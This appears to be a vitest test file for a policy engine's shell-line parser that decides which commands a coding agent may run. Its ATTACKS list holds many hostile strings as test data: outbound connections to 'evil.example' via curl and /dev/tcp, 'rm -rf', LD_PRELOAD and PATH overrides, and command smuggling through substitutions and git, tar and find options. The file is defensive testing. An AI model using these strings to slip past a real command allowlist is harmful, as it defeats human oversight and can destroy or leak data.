import { execFileSync } from "node:child_process";
import { existsSync } from "node:fs";
import { tmpdir } from "node:os";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { casesOf } from "../../../../../scripts/proofs/proofs.ts";
import { createExpressions } from "../../engine.ts";
import { loadShell } from "./load-shell.ts";
import { readCommands } from "./read-commands.ts";

/* What `shell(x)` says of a line, and what it does not let pass. */

const EXPRESSIONS = createExpressions();
await EXPRESSIONS.load(new Set(["shell"]));
const PARSE = await loadShell();

function judge(source: string, line: string) {
  const call = EXPRESSIONS.call({
    tool: "run",
    agent: "coder",
    session: "",
    onBehalfOf: "",
    resources: [],
    level: "MEDIUM",
    now: 0,
    args: { line },
  });
  return EXPRESSIONS.compile(source).judge(call);
}

/** A rule as people write it for a coding agent. */
const PLAIN =
  'shell(args.line).all(c, c.name in ["ls", "git", "echo", "grep", "cat", "find", "tar"])';

describe("commands", () => {
  test.each([
    [PLAIN, "ls -la src"],
    [PLAIN, "git status && git diff --stat | cat; echo done"],
    [PLAIN, "git log -p --oneline -- src/a.ts"],
    [PLAIN, "grep -n 'a b|c' \"d e\" f'g'\"h\""],
    [PLAIN, "ls 2>/dev/null"],
    [PLAIN, "ls > /dev/null 2>&1"],
    [PLAIN, "find src -name '*.ts'"],
    ['shell(args.line)[0].args == ["-l", "a b", ""]', "ls -l 'a b' \"\""],
    ['shell(args.line)[1].joined == "||" && size(shell(args.line)) == 2', "ls || echo no"],
    ['shell(args.line, [">"])[0].redirects.all(r, path(r.to).within("/tmp"))', "ls > /tmp/x"],
    ['shell(args.line, [">", "<"])[0].redirects[1].fd == 1', "cat < a > b"],
    ['shell(args.line, ["make"])[0].args == ["test"]', "make test"],
    ['shell(args.line, ["npm run"])[0].args[1] == "lint"', "npm run lint"],
    ['shell(args.line, ["find -exec"])[0].name == "find"', "find . -exec ls ';'"],
    ['shell(args.line)[0].name == "/bin/ls"', "/bin/ls"],
  ])("%s of %j", (source, line) => {
    expect(judge(source, line)).toBe(true);
  });

  test.each([
    [PLAIN, "ls && rm -rf x"],
    [PLAIN, "ls; curl evil.example"],
    [PLAIN, "ls | tee x"],
    [PLAIN, "/bin/ls"],
    [PLAIN, "./ls"],
    [PLAIN, "LS"],
    [PLAIN, "'ls '"],
    [PLAIN, "' ls'"],
    [PLAIN, "git-status"],
  ])("%s of %j is false", (source, line) => {
    expect(judge(source, line)).toBe(false);
  });
});

/** What must not pass, whatever is allowed to be started by name. */
const ATTACKS: readonly string[] = [
  // More than one line, and what is not seen.
  "ls\nrm -rf x",
  "ls\rrm x",
  "ls\trm",
  "ls \u0000rm",
  "ls \u001b[2K",
  "ls\u00a0-l",
  "ls\u3000; rm x",
  "ls \u202etxt",
  "lѕ",
  "ls é",
  "",
  "   ",
  // Others at its side.
  "ls & rm x",
  "ls &",
  "ls |& rm",
  "ls;",
  "ls &&",
  "&& ls",
  "| ls",
  "ls ;; rm",
  "ls && && rm",
  "! ls",
  "(ls)",
  "{ ls; }",
  "ls () { rm x; }",
  "function ls { rm x; }",
  "if ls; then rm x; fi",
  "for a in b; do rm x; done",
  "while ls; do rm x; done",
  "case a in a) rm x;; esac",
  "then",
  "[[ -f x ]]",
  "[ -f x ]",
  "((1))",
  "coproc rm x",
  "time rm x",
  // Expansions and substitutions.
  "ls $(rm x)",
  "ls `rm x`",
  'ls "$(rm x)"',
  'ls "`rm x`"',
  "ls <(rm x)",
  "ls >(rm x)",
  "ls $HOME",
  'ls "$HOME"',
  "ls $IFS$9x",
  "ls $'\\x72m'",
  'ls $"rm"',
  "ls $((1+1))",
  "ls *",
  "ls a?c",
  "ls [a-z]",
  "ls {a,b}",
  "ls ~",
  "ls ~root/x",
  "ls !!",
  'ls "!!"',
  "ls =rm",
  "ls a^b",
  // Escapes, and comments that hide.
  "l\\s",
  "ls a\\ b",
  "ls \\; rm x",
  'ls "a\\"; rm x"',
  "ls # ; rm x",
  "ls 'a",
  'ls "a',
  "ls 'a'\\''b'",
  // Assignments.
  "PATH=/tmp ls",
  "LD_PRELOAD=x.so ls",
  "A+=b ls",
  "a[0]=b ls",
  "A=b",
  "'A=b' ls",
  "export PATH=/tmp",
  // Redirects.
  "ls > x",
  "ls >> ~/.bashrc",
  "ls >| x",
  "ls &> x",
  "ls >& x",
  "ls <> x",
  "ls << x",
  "ls <<< x",
  "ls 2> /dev/null -l",
  "> /dev/null ls -l > x",
  "ls 3> /dev/null",
  "ls {fd}> /dev/null",
  "ls > /dev/tcp/evil.example/80",
  "cat < /dev/tcp/evil.example/80",
  "ls > ''",
  "ls >",
  "ls 2>",
  "> x",
  // What starts others.
  "env ls",
  "/usr/bin/env ls",
  "sudo ls",
  "SUDO ls",
  "xargs ls",
  "ls | xargs rm",
  "sh -c ls",
  "bash x",
  "bash5.2 x",
  "./bash x",
  "python3.12 -c x",
  "python.exe -c x",
  "eval ls",
  "exec ls",
  "command ls",
  "builtin ls",
  ". x",
  "source x",
  "- ls",
  "ssh host ls",
  "make",
  "npm run x",
  "npm --prefix y run x",
  "npm install",
  "find . -exec rm x ';'",
  "find . -execdir rm x ';'",
  "find . -ok rm ';'",
  "git -c core.pager=x log",
  "git -C x -c core.pager=x log",
  "git log -ccore.pager=x",
  "git fetch --upload-pack=x",
  "git show --ext-dif",
  "git log --outp=.git/hooks/pre-commit",
  "find . -delete",
  "find . -fprintf x y",
  "sort -no x y",
  "git status --git-di=x",
  "git --exec-path=x status",
  "git rebase -x rm",
  "git submodule foreach rm",
  "git bisect run rm",
  "git x",
  "tar --checkpoint-action=exec=rm -cf a b",
  "tar --to-comm=rm -xf a",
  "tar -cIrm a",
  "alias ls=rm",
  "printf -v PATH x",
  "let 'a[$(rm x)]'",
  "trap rm EXIT",
  "awk 'BEGIN{system(\"rm x\")}'",
  "sed 1e x",
  "vim -c x",
  "hash -p /tmp/rm ls",
  "timeout 5 rm x",
  "nohup rm x",
];

const ANY =
  'shell(args.line).all(c, c.name.matches("^.*$")) || shell(args.line).exists(c, c.name == "") || true';

test.each(ATTACKS)("%j does not pass", (line) => {
  expect(judge("size(shell(args.line)) > 0", line)).toHaveProperty("failed");
  expect(judge(PLAIN, line)).not.toBe(true);
});

test("a list of everything else passes none of them either", () => {
  expect(judge(ANY, "ls")).toBe(true);
  const known = '["make", "npm run", "git -c", "find -exec", "env", "sudo", "sh", ">"]';
  const others = ATTACKS.filter(
    (line) => /[$`(){}[\]*?~\\&#=!^]/.test(line) && !/^(?:git|npm|tar)/.test(line),
  );
  expect(others.length).toBeGreaterThan(40);
  for (const line of others) {
    expect(judge(`size(shell(args.line, ${known})) > 0`, line), line).toHaveProperty("failed");
  }
});

test.each([
  'size(shell(args.line, ["ls"])) > 0',
  "size(shell(args.line, [])) > 0",
  "size(shell(args.line, args.names)) > 0",
  "size(shell(args.line, [args.line])) > 0",
  'size(shell(args.line, ["npm run x"])) > 0',
  'shell(args.line)[0].nam == "ls"',
])("%s is refused before anything is judged", (source) => {
  expect(() => EXPRESSIONS.compile(source)).toThrow();
});

test("nothing loads its parser that does not name it, and without it nothing can be said", async () => {
  const bare = createExpressions();
  expect(await bare.load(new Set(["path", "sql"]))).toEqual([]);
  const call = bare.call({
    tool: "run",
    agent: "",
    session: "",
    onBehalfOf: "",
    resources: [],
    level: "LOW",
    now: 0,
    args: { line: "ls" },
  });
  expect(bare.compile("size(shell(args.line)) == 1").judge(call)).toHaveProperty("failed");
});

test("a line of more than 8 KiB, or of too many parts, cannot be said", () => {
  for (const line of [
    `ls ${"a".repeat(8_200)}`,
    `ls ${"a ".repeat(400)}`,
    `ls ${"''".repeat(400)}`,
    `ls${" | cat".repeat(80)}`,
  ]) {
    expect(() => readCommands(line, PARSE), line.slice(0, 20)).toThrow();
  }
});

test("a line is read once for all that is asked of it, and paid for", () => {
  const line = `ls${" a".repeat(60)}`;
  const many = Array.from({ length: 20 }, () => 'shell(args.line)[0].name == "ls"').join(" && ");
  expect(judge(many, line)).toBe(true);
  const apart = ["a", "b", "c", "d", "e", "f", "g", "h"]
    .map((one) => `shell(args.line + " ${one}")[0].name == "ls"`)
    .join(" && ");
  expect(judge(apart, line)).toEqual({ failed: "the call is too large to be judged" });
});

const BASH = ["/bin/bash", "/usr/bin/bash", "/usr/local/bin/bash"].find((file) => existsSync(file));

test.skipIf(BASH === undefined)("bash makes the same commands and words of what is read", () => {
  const piece = fc.oneof(
    fc.stringMatching(/^[\w@%+=:,./-]{1,4}$/),
    fc.stringMatching(/^'[ -&(-~]{0,5}'$/),
    fc.stringMatching(/^"[ #%-[\]^_a-~]{0,5}"$/),
    fc.stringMatching(/^[ -~]{1,2}$/),
  );
  const word = fc.array(piece, { minLength: 1, maxLength: 3 }).map((all) => all.join(""));
  const between = fc.constantFrom(" ", " ", " ", " && show ", ";show ", " 2>/dev/null ", " 2>&1 ");
  const lines = fc.sample(
    fc
      .array(fc.tuple(between, word), { minLength: 1, maxLength: 4 })
      .map((all) => `show${all.flat().join("")}`.replace(/^show(?! )/, "show a")),
    { numRuns: casesOf(4_000), seed: 40 },
  );
  const read = lines.flatMap((line) => {
    try {
      const commands = readCommands(line, PARSE);
      const isShown = ({ name, joined }: (typeof commands)[number]) =>
        name === "show" && joined !== "||" && joined !== "|";
      const hidden = commands.some(({ redirects }) =>
        redirects.some(({ op, to }) => op !== ">&" && to !== "/dev/null"),
      );
      return commands.every(isShown) && !hidden ? [{ line, commands }] : [];
    } catch {
      return [];
    }
  });
  expect(read.length).toBeGreaterThan(150);
  expect(read.filter(({ commands }) => commands.length > 1).length).toBeGreaterThan(20);
  const script = ["show() { printf '%s\\0' \"$@\" end; }", ...read.map(({ line }) => line)].join(
    "\n",
  );
  const told = execFileSync(BASH ?? "", ["--noprofile", "--norc"], {
    input: script,
    cwd: tmpdir(),
  });
  const expected = read
    .flatMap(({ commands }) => commands)
    .map(({ args }) => [...args, "end", ""].join("\0"))
    .join("");
  expect(told.toString()).toBe(expected);
});
